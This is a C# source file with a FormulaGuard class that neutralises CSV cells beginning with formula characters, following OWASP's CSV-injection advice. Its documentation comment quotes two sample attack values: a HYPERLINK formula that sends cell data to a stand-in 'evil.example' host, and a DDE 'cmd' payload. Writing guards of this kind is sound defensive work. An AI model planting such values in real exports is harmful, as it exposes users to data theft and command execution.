using System.Text.RegularExpressions;

namespace Dossier.Output.Exports;

/// <summary>
/// Keeps a CSV cell from being run as a spreadsheet formula (CSV injection): a contributor's
/// <c>=HYPERLINK("https://evil.example/?"&amp;A1, "Source")</c> or <c>+cmd|' /C calc'!A0</c> is
/// text in the dossier, and must open as text. Cells that start with what a spreadsheet reads as
/// a formula (<c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, tab, carriage return) get a leading
/// <c>'</c>, as OWASP advises; a plain negative number (a coordinate) is left as it is, since
/// it cannot be a formula and a <c>'</c> would turn it into text. The JSON export is not guarded:
/// it holds every value exactly.
/// </summary>
public static partial class FormulaGuard
{
    [GeneratedRegex(@"^-[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?$", RegexOptions.CultureInvariant)]
    private static partial Regex NegativeNumber();

    public static string? Neutralise(string? cell) =>
        cell is [var first, ..] && first is '=' or '+' or '-' or '@' or '\t' or '\r' && !(first == '-' && NegativeNumber().IsMatch(cell))
            ? "'" + cell
            : cell;
}
